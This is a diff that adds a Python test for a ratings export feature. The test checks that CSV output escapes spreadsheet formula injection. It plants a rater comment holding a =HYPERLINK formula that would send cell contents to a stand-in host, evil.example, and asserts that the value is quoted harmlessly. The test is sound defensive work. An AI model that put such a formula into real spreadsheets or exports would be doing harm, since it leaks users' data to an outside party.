@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -14,7 +15,7 @@ from luthier.core.conversation import Message
 from luthier.core.errors import ConflictError, DataError, NotFoundError, RequestError
 from luthier.core.ids import sha256_document
 from luthier.core.results.human_eval import RatingItem, RatingsTable
-from luthier.features.human_eval import rating_view
+from luthier.features.human_eval import files, rating_view
 from luthier.features.human_eval.files import export_panel, format_of, import_label_studio, preference_pairs
 from luthier.features.human_eval.items import AnsweredRow, AnsweredRows
 from luthier.features.human_eval.service import NewPanel, close_panel, create_panel, ratings_table
@@ -33,6 +34,20 @@ def test_a_table_that_was_written_is_read_back(context: Context, tmp_path: Path,
     path = tmp_path / f"ratings.{suffix}"
     path.write_bytes(export_panel(context, "default", made.panel.panel_id, format_of(path)))
     assert RatingsTable.read(path) == ratings_table(context, "default", made.panel.panel_id)
+
+
+def test_what_a_rater_wrote_is_no_formula_in_a_spreadsheet(context: Context, tmp_path: Path) -> None:
+    made = make_panel(context)
+    rate_all(context, made, 0, careful("pairwise"))
+    comment = '=HYPERLINK("http://evil.example/?"&A1)'
+    table = ratings_table(context, "default", made.panel.panel_id)
+    changed = RatingsTable(tuple(row.model_copy(update={"comment": comment, "rater": "+1"}) for row in table.rows))
+    path = tmp_path / "ratings.csv"
+    path.write_bytes(files._csv(changed))
+    cells = [cell for line in csv.reader(path.read_text(encoding="utf-8").splitlines()) for cell in line]
+    assert {f"'{comment}", "'+1"} <= {*cells}
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert RatingsTable.read(path) == changed
 
 
 def test_formats_go_by_the_name_and_another_project_gets_nothing(context: Context) -> None:
